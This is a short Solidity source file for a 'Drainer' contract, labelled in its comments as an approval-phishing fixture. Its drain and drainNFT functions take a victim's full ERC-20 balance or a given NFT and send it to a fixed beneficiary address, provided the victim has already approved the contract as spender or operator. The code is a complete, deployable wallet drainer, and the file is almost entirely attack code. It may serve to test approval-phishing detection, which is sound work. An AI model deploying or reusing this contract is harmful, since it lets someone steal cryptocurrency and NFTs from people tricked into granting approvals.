// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {IERC20} from "./IERC20.sol";

interface IERC721Like {
    function transferFrom(address from, address to, uint256 tokenId) external;
}

/// @title Drainer: a freshly deployed "spender" that moves everything it has been approved for.
/// @notice Approval-phishing fixture: victims grant it an unlimited allowance or operator rights.
contract Drainer {
    address public immutable beneficiary;

    constructor(address beneficiary_) {
        beneficiary = beneficiary_;
    }

    function drain(IERC20 token, address victim) external {
        token.transferFrom(victim, beneficiary, token.balanceOf(victim));
    }

    function drainNFT(IERC721Like nft, address victim, uint256 tokenId) external {
        nft.transferFrom(victim, beneficiary, tokenId);
    }
}
